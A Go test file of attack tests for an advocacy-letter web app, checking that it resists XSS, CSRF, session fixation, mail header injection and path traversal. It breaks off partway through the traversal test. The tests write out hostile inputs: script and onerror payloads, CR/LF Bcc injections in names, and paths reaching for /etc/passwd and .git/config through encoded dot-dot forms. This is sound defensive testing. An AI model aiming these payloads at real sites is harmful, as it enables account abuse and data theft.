package web_test

import (
	"archive/zip"
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html/template"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/advocate-org/advocate/app"
	"github.com/advocate-org/advocate/app/apptest"
	"github.com/advocate-org/advocate/app/auth"
	"github.com/advocate-org/advocate/app/campaign"
	"github.com/advocate-org/advocate/app/keptroster"
	"github.com/advocate-org/advocate/app/letter"
	"github.com/advocate-org/advocate/app/letter/pdf"
	"github.com/advocate-org/advocate/app/mail"
	"github.com/advocate-org/advocate/app/mail/mailtest"
	"github.com/advocate-org/advocate/app/outbox"
	"github.com/advocate-org/advocate/app/packets"
	"github.com/advocate-org/advocate/app/store/views"
	"github.com/advocate-org/advocate/app/web"
	"github.com/advocate-org/advocate/templates"
)

// The attack tests: each table row names what an attacker tries and what
// must happen instead.

// newAttackApp is the whole app as serve wires it (supporters, accounts,
// the organizer workspace, staff packets), served by web.Server.HTTPServer
// so that its connection limits apply, on SQLite or on PostgreSQL when dsn
// is set. edit changes the server options.
func newAttackApp(t *testing.T, dsn string, edit func(*web.Options)) *authFixture {
	t.Helper()
	af := newAuthFixture(t, authOpts{dsn: dsn})
	maker, err := pdf.New(pdf.Options{})
	if err != nil {
		t.Fatal(err)
	}
	audit := auth.NewAudit(af.db.Audit, af.clock.Now)
	camps := campaign.New(campaign.Options{Store: af.db.Campaigns, Letters: letter.NewRenderer(letter.Options{}), Roster: af.roster,
		PDF: maker, Cache: af.submit, Auditor: audit, Counts: af.db.Stats, Clock: af.clock.Now})
	o := web.Options{Submit: af.submit, Roster: af.roster, DB: af.db, Limits: af.limits, Pages: templates.Pages(), Static: templates.Static(),
		Clock: af.clock.Now, Auth: af.auth, Campaigns: camps,
		Rosters:  keptroster.New(keptroster.Options{Store: af.db.Roster, Roster: af.roster, Campaigns: af.db.Campaigns, Auditor: audit}),
		Delivery: views.Office(af.db), Packets: packets.New(packets.Options{Store: views.Office(af.db), PDF: maker, Clock: af.clock.Now})}
	if edit != nil {
		edit(&o)
	}
	srv, err := web.NewServer(o)
	if err != nil {
		t.Fatal(err)
	}
	hs := httptest.NewUnstartedServer(srv)
	hs.Config = srv.HTTPServer()
	hs.Start()
	t.Cleanup(hs.Close)
	af.srv, af.web = hs, srv
	return af
}

// dbState summarises what a refused attack must leave alone: accounts
// (password hashes and status included), campaigns and their letters,
// submissions and the audit trail.
func dbState(t *testing.T, af *authFixture) string {
	t.Helper()
	ctx := context.Background()
	var b strings.Builder
	users, err := af.db.Accounts.ListUsers(ctx, app.UserFilter{})
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range users {
		fmt.Fprintf(&b, "user %s %q %v disabled=%v %s\n", u.Email, u.Name, u.Roles, u.Disabled, u.PasswordHash)
	}
	camps, err := af.db.Campaigns.ListCampaigns(ctx, app.CampaignFilter{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range camps {
		fmt.Fprintf(&b, "campaign %s %s %q\n", c.Slug, c.Status, c.Title)
		for _, k := range app.TargetKinds() {
			vs, err := af.db.Campaigns.ListTemplateVersions(ctx, c.ID, k)
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprintf(&b, "  %s letter: %d versions\n", k, len(vs))
		}
	}
	subs, err := af.db.Stats.SubmissionCounts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	letters, err := af.db.Stats.LetterCounts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	evs, err := af.db.Audit.ListAuditEvents(ctx, app.AuditFilter{Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(&b, "submissions %v letters %v audit events %d\n", subs, letters, len(evs))
	return b.String()
}

// submitJSON posts a supporter to the API with fields changed from goodJSON.
func submitJSON(t *testing.T, af *authFixture, campaignSlug string, fields map[string]any, header ...string) (*http.Response, string) {
	t.Helper()
	var in map[string]any
	if err := json.Unmarshal([]byte(goodJSON), &in); err != nil {
		t.Fatal(err)
	}
	for k, v := range fields {
		in[k] = v
	}
	body, _ := json.Marshal(in)
	req, _ := http.NewRequest(http.MethodPost, af.srv.URL+"/api/v1/campaigns/"+campaignSlug+"/submissions", strings.NewReader(string(body)))
	req.Header.Set("Content-Type", "application/json")
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	return af.browser().do(req)
}

// submitToken stores a supporter through the API and returns the private
// token of the thank-you page, which only the copy email carries.
func submitToken(t *testing.T, af *authFixture, fields map[string]any) string {
	t.Helper()
	resp, body := submitJSON(t, af, slug, fields)
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("submission: %d %s", resp.StatusCode, body)
	}
	email, _ := fields["email"].(string)
	if email == "" {
		email = "lukasz@example.org"
	}
	return strings.TrimPrefix(af.emailedLink(t, slug, email), "/s/")
}

// rawRequest sends path exactly as given (no cleaning or re-encoding by
// the client) and returns the answer.
func rawRequest(t *testing.T, base, method, path string, header ...string) (int, string) {
	t.Helper()
	u, _ := url.Parse(base)
	conn, err := net.Dial("tcp", u.Host)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	req := method + " " + path + " HTTP/1.1\r\nHost: " + u.Host + "\r\nConnection: close\r\n"
	for i := 0; i+1 < len(header); i += 2 {
		req += header[i] + ": " + header[i+1] + "\r\n"
	}
	if _, err := io.WriteString(conn, req+"\r\n"); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func TestAttackXSS(t *testing.T) {
	af := newAttackApp(t, "", nil)
	f := af.fixture
	const script = `<script>alert(1)</script>`
	rows := []struct {
		name, field, payload string
		// onThanks: the field is shown again on the thank-you page.
		onThanks bool
		// refused: the value is invalid, so the form comes back with it.
		refused bool
	}{
		{name: "script in first name", field: "first_name", payload: script, onThanks: true},
		{name: "image handler in last name", field: "last_name", payload: `<img src=x onerror=alert(1)>`},
		{name: "attribute breakout in address", field: "address1", payload: `12 State St"><script>alert(1)</script>`},
		{name: "textarea breakout in address line 2", field: "address2", payload: `</textarea>` + script},
		{name: "svg in city", field: "city", payload: `Albany<svg onload=alert(1)>`},
		{name: "textarea breakout in personal message", field: "personal_message", payload: `</textarea><iframe src=javascript:alert(1)>`},
		{name: "quoted script as email local part", field: "email", payload: `"` + script + `"@example.org`, refused: true},
		{name: "attribute breakout as email local part", field: "email", payload: "o'onfocus='alert`1`'autofocus='@example.org", onThanks: true},
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			escaped := template.HTMLEscapeString(r.payload)
			check := func(where, body string, wantEscaped bool) {
				t.Helper()
				if strings.Contains(body, r.payload) {
					t.Errorf("%s shows the payload unescaped", where)
				}
				if wantEscaped && !strings.Contains(body, escaped) {
					t.Errorf("%s lacks the escaped payload %q", where, escaped)
				}
			}
			form := supporterForm("12202", "NY")
			form.Set("email", "xss-"+r.field+"@example.org")
			form.Set(r.field, r.payload)
			form.Set("_csrf", f.csrf(slug))
			resp, body := f.postForm("/c/"+slug+"/preview", form)
			if r.refused {
				if resp.StatusCode != http.StatusUnprocessableEntity {
					t.Fatalf("preview: %d, want 422", resp.StatusCode)
				}
				check("the form page", body, true)
				return
			}
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("preview: %d\n%s", resp.StatusCode, body)
			}
			check("the preview", body, true)
			resp, body = f.postForm("/c/"+slug+"/submit", form)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("submit: %d\n%s", resp.StatusCode, body)
			}
			check("the answer", body, r.field == "email")
			_, body = f.get(f.emailedLink(t, slug, form.Get("email")))
			check("the thank-you page", body, r.onThanks)
		})
	}

	org := af.signedIn("org@example.org", app.RoleOrganizer)
	editor := "/organize/campaigns/" + slug + "/letters/representative"
	letterForm := url.Values{
		"subject":        {`Re: <script>alert("subject")</script>`},
		"body":           {"Dear {{ recipient.greeting }},\n\n<script>alert(\"body\")</script> <img src=x onerror=alert(2)>\n\n{{ personal_message }}\n\n{{ supporter.first_name }}"},
		"sample_message": {`</textarea><script>alert("sample")</script>`},
		"sample_set":     {"1"},
	}
	rawOrg := []string{`<script>alert("subject")</script>`, `<script>alert("body")</script>`, `<img src=x onerror=alert(2)>`,
		`</textarea><script>alert("sample")</script>`}
	t.Run("script in a letter template, editor preview", func(t *testing.T) {
		resp, body := org.submit(editor, editor, letterForm)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("preview: %d\n%s", resp.StatusCode, body)
		}
		mustNotContain(t, body, rawOrg...)
		mustContain(t, body, `&lt;script&gt;alert(&#34;body&#34;)&lt;/script&gt;`, `&lt;img src=x onerror=alert(2)&gt;`)
	})
	t.Run("script in a letter template, live preview JSON", func(t *testing.T) {
		resp, body := org.submit(editor, editor+"/preview.json", letterForm)
		if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/json") {
			t.Fatalf("preview.json: %d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
		}
		if strings.Contains(body, "<") || strings.Contains(body, ">") {
			t.Errorf("the JSON carries raw angle brackets: %s", body)
		}
		var p struct {
			OK            bool
			Subject, Body string
		}
		if err := json.Unmarshal([]byte(body), &p); err != nil || !p.OK || !strings.Contains(p.Body, `<script>alert("body")</script>`) {
			t.Fatalf("preview.json: %v %s", err, body)
		}
	})
	t.Run("script in a saved letter template, supporter preview", func(t *testing.T) {
		save := url.Values{"action": {"save"}}
		for k, v := range letterForm {
			save[k] = v
		}
		resp, body := org.submit(editor, editor, save)
		if resp.StatusCode != http.StatusSeeOther {
			t.Fatalf("save: %d\n%s", resp.StatusCode, body)
		}
		form := supporterForm("12202", "NY")
		form.Set("_csrf", f.csrf(slug))
		resp, body = f.postForm("/c/"+slug+"/preview", form)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("preview: %d", resp.StatusCode)
		}
		mustNotContain(t, body, rawOrg...)
		mustContain(t, body, `Re: &lt;script&gt;alert(&#34;subject&#34;)&lt;/script&gt;`)
	})
	t.Run("script in a campaign title, public page and API", func(t *testing.T) {
		ctx := context.Background()
		c, err := af.db.Campaigns.FindCampaignBySlug(ctx, slug)
		if err != nil {
			t.Fatal(err)
		}
		c.Title = `Free <script>alert("title")</script> Heng`
		if err := af.db.Campaigns.UpdateCampaign(ctx, c); err != nil {
			t.Fatal(err)
		}
		af.submit.Forget(slug)
		_, body := f.get("/c/" + slug)
		mustNotContain(t, body, `<script>alert("title")`)
		mustContain(t, body, `Free &lt;script&gt;alert(&#34;title&#34;)&lt;/script&gt; Heng`)
		_, body = f.get("/api/v1/campaigns")
		mustNotContain(t, body, "<script>")
		mustContain(t, body, `\u003cscript\u003e`)
		_, body = org.get("/organize")
		mustNotContain(t, body, `<script>alert("title")`)
	})
	t.Run("script in sign-in email and user agent, audit log", func(t *testing.T) {
		b := af.browser()
		form := url.Values{"email": {`<script>alert("email")</script>`}, "password": {"wrong password"}, "_csrf": {b.csrfToken()}}
		req, _ := http.NewRequest(http.MethodPost, af.srv.URL+"/login", strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("User-Agent", `<script>alert("agent")</script>`)
		if resp, body := b.do(req); resp.StatusCode != http.StatusUnauthorized {
			t.Fatalf("login: %d", resp.StatusCode)
		} else {
			mustNotContain(t, body, `<script>alert("email")`)
		}
		admin := af.signedIn("admin@example.org", app.RoleAdmin)
		_, body := admin.get("/admin/audit")
		mustNotContain(t, body, `<script>alert("email")`, `<script>alert("agent")`)
		mustContain(t, body, `&lt;script&gt;alert(&#34;email&#34;)&lt;/script&gt;`)
	})
	t.Run("script in a supporter's name: staff, supporter-data, exports, emails and PDFs", func(t *testing.T) {
		fa, _ := fullApp(t)
		const payload = `<img src=x onerror=alert(1)>`
		email := "xss-everywhere@example.org"
		token := submitToken(t, fa, map[string]any{"email": email, "first_name": payload, "last_name": payload,
			"city": payload, "personal_message": payload})
		holder := fa.signedIn("xss-holder@example.org", app.RoleStaff, app.RoleSupporterData)
		pages := []string{"/staff", "/staff/campaigns/" + slug, "/staff/campaigns/" + slug + "/letters",
			"/staff/supporters?email=" + url.QueryEscape(email), "/s/" + token}
		for _, p := range pages {
			resp, body := holder.get(p)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("%s: %d", p, resp.StatusCode)
			}
			mustNotContain(t, body, payload)
		}
		// Exports are attachments that no browser renders as a page.
		for _, f := range []string{"letters.csv", "letters.json", "targets.csv"} {
			resp, body := holder.get("/staff/campaigns/" + slug + "/export/" + f + "?personal=1")
			ct := resp.Header.Get("Content-Type")
			if resp.StatusCode != http.StatusOK || strings.HasPrefix(ct, "text/html") || resp.Header.Get("X-Content-Type-Options") != "nosniff" ||
				!strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") {
				t.Errorf("%s: %d %q %v", f, resp.StatusCode, ct, resp.Header)
			}
			if strings.HasSuffix(f, ".json") && strings.Contains(body, "<img") {
				t.Errorf("%s holds the markup unescaped", f)
			}
		}
		resp, exp := holder.get("/staff/supporters/export?email=" + url.QueryEscape(email))
		if resp.StatusCode != http.StatusOK || strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") || strings.Contains(exp, "<img") {
			t.Errorf("supporter export: %d %q", resp.StatusCode, resp.Header.Get("Content-Type"))
		}
		for _, p := range []string{"/s/" + token + "/letters.pdf"} {
			resp, _ := holder.get(p)
			if resp.Header.Get("Content-Type") != "application/pdf" || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s served as %q", p, resp.Header.Get("Content-Type"))
			}
		}
		// The supporter's copy email, as the outbox composes it.
		sub, err := fa.db.Submissions.FindSubmissionByToken(context.Background(), token)
		if err != nil {
			t.Fatal(err)
		}
		camp, err := fa.db.Campaigns.FindCampaignByID(context.Background(), sub.CampaignID)
		if err != nil {
			t.Fatal(err)
		}
		maker, err := pdf.New(pdf.Options{})
		if err != nil {
			t.Fatal(err)
		}
		comp, err := outbox.NewComposer(outbox.ComposerOptions{From: mail.Address{Email: "letters@example.org"},
			BaseURL: "https://letters.example.org", Templates: templates.Emails(), PDF: maker, Location: time.UTC})
		if err != nil {
			t.Fatal(err)
		}
		for _, l := range sub.Letters {
			for _, d := range l.Deliveries {
				if d.Channel != app.ChannelCopy && d.Channel != app.ChannelEmail {
					continue
				}
				m, err := comp.Compose(d, sub, camp, fixedNow)
				if err != nil {
					t.Fatal(err)
				}
				if strings.Contains(m.HTML, payload) || !strings.Contains(m.HTML, "&lt;img") {
					t.Errorf("%s email HTML:\n%s", d.Channel, m.HTML)
				}
			}
		}
	})
	t.Run("content security policy", func(t *testing.T) {
		admin := af.signedIn("csp@example.org", app.RoleAdmin, app.RoleOrganizer, app.RoleStaff)
		inlineScript := regexp.MustCompile(`(?i)<script\b[^>]*>`)
		handler := regexp.MustCompile(`(?i)<[a-z][^>]*\son[a-z]+\s*=`)
		for _, p := range []string{"/c/" + slug, "/login", "/no-such-page", "/api/v1/campaigns", "/static/app.js",
			"/organize", editor, "/admin/users", "/admin/audit", "/staff", "/account"} {
			resp, body := admin.get(p)
			csp := resp.Header.Get("Content-Security-Policy")
			directives := map[string]string{}
			for _, d := range strings.Split(csp, ";") {
				name, value, _ := strings.Cut(strings.TrimSpace(d), " ")
				directives[name] = value
			}
			scripts, ok := directives["script-src"]
			if !ok {
				scripts, ok = directives["default-src"]
			}
			if !ok || strings.Contains(scripts, "'unsafe-inline'") || strings.Contains(scripts, "'unsafe-eval'") ||
				strings.Contains(scripts, "*") || strings.Contains(scripts, "data:") {
				t.Errorf("%s: Content-Security-Policy %q lets scripts in", p, csp)
			}
			if directives["frame-ancestors"] != "'none'" || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s: framing or sniffing allowed: %v", p, resp.Header)
			}
			if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") {
				continue
			}
			for _, tag := range inlineScript.FindAllString(body, -1) {
				if !strings.Contains(tag, " src=") {
					t.Errorf("%s: inline script %s (the policy would block it)", p, tag)
				}
			}
			if m := handler.FindString(body); m != "" {
				t.Errorf("%s: inline event handler %q", p, m)
			}
		}
	})
}

func TestAttackCSRF(t *testing.T) {
	af := newAttackApp(t, "", nil)
	admin := af.signedIn("admin@example.org", app.RoleAdmin, app.RoleOrganizer)
	leaver := af.signedIn("leaver@example.org", app.RoleStaff)
	victim := af.user("victim@example.org", app.RoleStaff)
	attacker := af.browser() // the attacker's own visit gives them a token of their own
	attackerToken := attacker.csrfToken()
	eraseToken := submitToken(t, af, map[string]any{"email": "erase-csrf@example.org"})
	// A change of address waiting for an admin, asked for by someone else.
	const dhs = "/organize/rosters/executives/DHS_SECRETARY"
	if resp, body := af.signedIn("org2@example.org", app.RoleOrganizer).submit(dhs, dhs, url.Values{"title": {"Secretary of Homeland Security"},
		"name": {"Markwayne Mullin"}, "address": {"Washington, DC 20528"}, "email": {"new@dhs.example"}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("change of address: %d %s", resp.StatusCode, body)
	}
	changes, err := af.db.Roster.ListAddressChanges(context.Background(), app.AddressChangeFilter{Status: app.ApprovalPending})
	if err != nil || len(changes) != 1 {
		t.Fatalf("pending: %v %v", changes, err)
	}
	stillPending := func(t *testing.T) {
		if c, _ := af.db.Roster.ListAddressChanges(context.Background(), app.AddressChangeFilter{Status: app.ApprovalPending}); len(c) != 1 {
			t.Errorf("the change of address was decided: %+v", c)
		}
	}

	rows := []struct {
		name string
		// as is who sends the form (nil: an anonymous visitor).
		as         *browser
		path       string
		form       url.Values
		unchanged  func(t *testing.T) // more than dbState can see
		validWorks int                // the status once the token is right
	}{
		{name: "supporter preview", path: "/c/" + slug + "/preview", form: supporterForm("12202", "NY"), validWorks: http.StatusOK},
		{name: "supporter submit", path: "/c/" + slug + "/submit", form: supporterForm("12202", "NY"), validWorks: http.StatusOK},
		{name: "send my link again", path: "/c/" + slug + "/link", form: url.Values{"email": {"csrf@example.org"}}, validWorks: http.StatusOK},
		{name: "erase own letters", path: "/s/" + eraseToken + "/erase", form: url.Values{"confirm": {"yes"}}, validWorks: http.StatusSeeOther,
			unchanged: func(t *testing.T) {
				if sub, _ := af.db.Submissions.FindSubmissionByToken(context.Background(), eraseToken); sub.Supporter.ErasedAt != nil {
					t.Error("erased by a forged form")
				}
			}},
		{name: "sign-in", path: "/login", form: url.Values{"email": {"victim@example.org"}, "password": {testPassword}},
			validWorks: http.StatusSeeOther},
		{name: "sign-out", as: leaver, path: "/logout", validWorks: http.StatusSeeOther, unchanged: func(t *testing.T) {
			if resp, _ := leaver.get("/account"); resp.StatusCode != http.StatusOK {
				t.Errorf("the session ended: %d", resp.StatusCode)
			}
		}},
		{name: "new campaign", as: admin, path: "/organize/campaigns", validWorks: http.StatusSeeOther, form: url.Values{
			"title": {"Forged"}, "slug": {"forged"}, "ask": {"x"}, "summary": {"x"}, "retention_days": {"30"}}},
		{name: "close a campaign", as: admin, path: "/organize/campaigns/" + slug + "/close", validWorks: http.StatusSeeOther},
		{name: "new admin", as: admin, path: "/admin/users", validWorks: http.StatusSeeOther,
			form: url.Values{"email": {"evil@example.org"}, "roles": {"admin"}, "password": {testPassword}}},
		{name: "disable a user", as: admin, path: "/admin/users/" + itoa(victim.ID) + "/disable", validWorks: http.StatusSeeOther},
		{name: "change password", as: admin, path: "/account/password", validWorks: http.StatusSeeOther,
			form: url.Values{"current": {testPassword}, "password": {"attacker password 1"}, "confirm": {"attacker password 1"}}},
		{name: "approve a change of an office's address", as: admin, path: "/admin/approvals/" + itoa(changes[0].ID) + "/approve",
			validWorks: http.StatusSeeOther, unchanged: stillPending},
	}
	modes := []struct {
		name   string
		token  func(b *browser) string
		header map[string]string
	}{
		{name: "no token", token: func(*browser) string { return "" }},
		{name: "forged token", token: func(*browser) string { return "forged-token-0123456789abcdef" }},
		{name: "another session's token", token: func(*browser) string { return attackerToken }},
		{name: "valid token from another site", token: func(b *browser) string { return b.csrfToken() },
			header: map[string]string{"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"}},
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			b := r.as
			if b == nil {
				b = af.browser()
				b.csrfToken() // the visitor has a CSRF cookie of their own
			}
			send := func(token string, header map[string]string) int {
				form := url.Values{}
				for k, v := range r.form {
					form[k] = v
				}
				if token != "" {
					form.Set("_csrf", token)
				}
				req, _ := http.NewRequest(http.MethodPost, af.srv.URL+r.path, strings.NewReader(form.Encode()))
				req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				for k, v := range header {
					req.Header.Set(k, v)
				}
				resp, _ := b.do(req)
				return resp.StatusCode
			}
			for _, m := range modes {
				before := dbState(t, af)
				if got := send(m.token(b), m.header); got != http.StatusBadRequest && got != http.StatusForbidden {
					t.Errorf("%s: %d, want 400 or 403", m.name, got)
				}
				if after := dbState(t, af); after != before {
					t.Errorf("%s changed the database:\n%s\nthen:\n%s", m.name, before, after)
				}
				if b.cookie("advocate_session") == "" && r.as != nil {
					t.Errorf("%s: the session cookie was dropped", m.name)
				}
				if r.unchanged != nil {
					r.unchanged(t)
				}
			}
			// The same form with the page's own token goes through, so the
			// refusals above were the token's doing.
			if got := send(b.csrfToken(), nil); got != r.validWorks {
				t.Errorf("with a valid token: %d, want %d", got, r.validWorks)
			}
		})
	}
}

func TestAttackSessionFixation(t *testing.T) {
	af := newAttackApp(t, "", nil)
	af.user("ana@example.org", app.RoleOrganizer)
	works := func(cookie string) bool {
		b := af.browser()
		b.jar.SetCookies(b.url(), []*http.Cookie{{Name: "advocate_session", Value: cookie}})
		resp, _ := b.get("/account")
		return resp.StatusCode == http.StatusOK
	}
	rows := []struct {
		name string
		// before runs ahead of the sign-in and returns the cookie the
		// attacker knows.
		before func(b *browser) string
		// after runs after the sign-in (nothing when nil).
		after func(b *browser)
	}{
		{name: "planted session cookie", before: func(b *browser) string {
			b.jar.SetCookies(b.url(), []*http.Cookie{{Name: "advocate_session", Value: "planted-by-an-attacker-0123456789abcdef"}})
			return "planted-by-an-attacker-0123456789abcdef"
		}},
		{name: "a real session from an earlier sign-in", before: func(b *browser) string {
			b.login("ana@example.org", testPassword)
			return b.cookie("advocate_session")
		}},
		{name: "a cookie after sign-out", before: func(b *browser) string { return "" }, after: func(b *browser) {
			stolen := b.cookie("advocate_session")
			if resp, _ := b.post("/logout", nil, true); resp.StatusCode != http.StatusSeeOther {
				t.Fatalf("logout: %d", resp.StatusCode)
			}
			if works(stolen) {
				t.Error("the signed-out session cookie still works")
			}
		}},
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			b := af.browser()
			known := r.before(b)
			if resp, body := b.login("ana@example.org", testPassword); resp.StatusCode != http.StatusSeeOther {
				t.Fatalf("login: %d %s", resp.StatusCode, body)
			}
			now := b.cookie("advocate_session")
			if now == "" || now == known {
				t.Fatalf("session cookie after sign-in %q, known before %q", now, known)
			}
			if known != "" && works(known) {
				t.Error("the cookie from before the sign-in works")
			}
			if !works(now) {
				t.Fatal("the new session does not work")
			}
			if r.after != nil {
				r.after(b)
			}
		})
	}
}

func TestAttackMailHeaderInjection(t *testing.T) {
	af := newAttackApp(t, "", nil)
	// Through the front door, line breaks never get into a submission: in
	// an email address they are refused, in a name folded into a space.
	if resp, body := submitJSON(t, af, slug, map[string]any{"email": "eve@example.org\r\nBcc: victim@example.org"}); resp.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("email with CR/LF: %d %s", resp.StatusCode, body)
	}
	for i, field := range []string{"first_name", "last_name", "address1", "city"} {
		token := submitToken(t, af, map[string]any{field: "Eve\r\nBcc: victim@example.org\nX-Injected: yes", "email": fmt.Sprintf("crlf%d@example.org", i)})
		sub, err := af.db.Submissions.FindSubmissionByToken(context.Background(), token)
		if err != nil {
			t.Fatal(err)
		}
		sup := sub.Supporter
		if v := sup.FirstName + sup.LastName + sup.Address1 + sup.City; strings.ContainsAny(v, "\r\n") {
			t.Errorf("%s stored with a line break: %+v", field, sup)
		}
	}

	// Behind it, the mail composer holds whatever a stored row contains.
	token := submitToken(t, af, map[string]any{"email": "mail@example.org"})
	ctx := context.Background()
	maker, err := pdf.New(pdf.Options{})
	if err != nil {
		t.Fatal(err)
	}
	composer, err := outbox.NewComposer(outbox.ComposerOptions{From: mail.Address{Name: "Advocate", Email: "letters@example.org"},
		BaseURL: "https://letters.example.org", Templates: templates.Emails(), PDF: maker})
	if err != nil {
		t.Fatal(err)
	}
	const inject = "\r\nBcc: victim@example.org\r\nX-Injected: yes\n\nbody"
	rows := []struct {
		name  string
		spoil func(sub *app.Submission, camp *app.Campaign)
		// refused: the message cannot be built (and so is never sent).
		refused bool
	}{
		{name: "CR/LF in the first name", spoil: func(s *app.Submission, _ *app.Campaign) { s.Supporter.FirstName += inject }},
		{name: "CR/LF in the last name", spoil: func(s *app.Submission, _ *app.Campaign) { s.Supporter.LastName += inject }},
		{name: "CR/LF in the letter subject", spoil: func(s *app.Submission, _ *app.Campaign) { s.Letters[0].Subject += inject }},
		{name: "CR/LF in the recipient name", spoil: func(s *app.Submission, _ *app.Campaign) { s.Letters[0].Recipient.Name += inject }},
		{name: "CR/LF in the organization name", spoil: func(_ *app.Submission, c *app.Campaign) { c.Delivery.OrgName = "Org" + inject }},
		{name: "Unicode line separators in the name", spoil: func(s *app.Submission, _ *app.Campaign) {
			s.Supporter.FirstName += "\u2028Bcc: victim@example.org\u0085X-Injected: yes"
		}},
		{name: "CR/LF in the supporter email", refused: true, spoil: func(s *app.Submission, _ *app.Campaign) {
			s.Supporter.Email += inject
		}},
	}
	allowed := map[string]bool{"From": true, "To": true, "Reply-To": true, "Subject": true, "Message-Id": true, "Date": true,
		"Mime-Version": true, "Content-Type": true, "X-Advocate-Campaign": true, "Auto-Submitted": true}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			sub, err := af.db.Submissions.FindSubmissionByToken(ctx, token)
			if err != nil {
				t.Fatal(err)
			}
			camp, err := af.db.Campaigns.FindCampaignByID(ctx, sub.CampaignID)
			if err != nil {
				t.Fatal(err)
			}
			camp.Delivery.ReplyToSupporter = true // the supporter's name and address go into Reply-To too
			r.spoil(sub, camp)
			sub.Letters[0].ID = 1
			for _, ch := range []app.Channel{app.ChannelEmail, app.ChannelCopy} {
				dl := app.Delivery{ID: 7, LetterID: 1, Channel: ch, To: "office@example.org", CreatedAt: fixedNow}
				if ch == app.ChannelCopy {
					dl.To = sub.Supporter.Email
				}
				m, err := composer.Compose(dl, sub, camp, fixedNow)
				if r.refused {
					if err == nil {
						t.Errorf("%s: a message was built", ch)
					}
					continue
				}
				if err != nil {
					t.Fatalf("%s: %v", ch, err)
				}
				raw, err := m.Bytes()
				if err != nil {
					t.Fatal(err)
				}
				p := mailtest.Parse(t, raw)
				for name := range p.Header {
					if !allowed[name] {
						t.Errorf("%s: header %s: %q", ch, name, p.Header[name])
					}
				}
				for _, name := range []string{"To", "From", "Reply-To"} {
					if v := p.Header.Get(name); v == "" && name != "Reply-To" {
						t.Errorf("%s: no %s", ch, name)
					} else if list, err := p.Header.AddressList(name); v != "" && (err != nil || len(list) != 1) {
						t.Errorf("%s: %s is %q (%v), want one address", ch, name, v, err)
					}
				}
				if p.Text == "" || len(p.Attachments) != 1 {
					t.Errorf("%s: the message lost its body or letter: %d attachments", ch, len(p.Attachments))
				}
			}
		})
	}
}

func TestAttackPathTraversal(t *testing.T) {
	af := newAttackApp(t, "", nil)
	token := submitToken(t, af, nil)
	staff := af.signedIn("staff@example.org", app.RoleStaff, app.RoleSupporterData) // packets need supporter-data
	session := "advocate_session=" + staff.cookie("advocate_session")
	secrets := []string{"module github.com/advocate-org", "root:x:0:0", "package web", "[core]"}
	rows := []struct {
		name, path string
		signedIn   bool
	}{
		{name: "dot-dot under a letter", path: "/s/" + token + "/letters/../../etc/passwd"},
		{name: "dot-dot as a letter id", path: "/s/" + token + "/letters/..%2f..%2f..%2fetc%2fpasswd/pdf"},
		{name: "encoded dots as a letter id", path: "/s/" + token + "/letters/%2e%2e%2f%2e%2e%2fgo.mod/pdf"},
		{name: "encoded dot-dot as the token", path: "/s/%2e%2e%2f%2e%2e%2fetc%2fpasswd"},
		{name: "dot-dot as the token", path: "/s/../../etc/passwd/letters.pdf"},
		{name: "static dot-dot", path: "/static/../go.mod"},
		{name: "static deep dot-dot", path: "/static/../../../../etc/passwd"},
		{name: "static encoded dots", path: "/static/%2e%2e/go.mod"},
		{name: "static encoded slash", path: "/static/..%2fgo.mod"},
		{name: "static encoded dots and slash", path: "/static/%2e%2e%2f%2e%2e%2fgo.mod"},
		{name: "static double-encoded", path: "/static/%252e%252e%252fgo.mod"},
		{name: "static backslashes", path: "/static/..%5c..%5cgo.mod"},
		{name: "static absolute", path: "/static//etc/passwd"},
		{name: "static encoded absolute", path: "/static/%2fetc%2fpasswd"},
		{name: "static overlong UTF-8 dots", path: "/static/%c0%ae%c0%ae/go.mod"},
		{name: "static repo file", path: "/static/../../.git/config"},
		{name: "packets slug dot-dot", path: "/staff/campaigns/../../etc/packets.zip", signedIn: true},
		{name: "packets encoded slug", path: "/staff/campaigns/..%2f..%2fetc/packets.zip", signedIn: true},
		{name: "packets encoded dots", path: "/staff/campaigns/%2e%2e/packets.zip", signedIn: true},
		{name: "packets slug with a NUL", path: "/staff/campaigns/free-guan-heng%00/packets.zip", signedIn: true},
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			var hdr []string
			if r.signedIn {
				hdr = []string{"Cookie", session}
			}
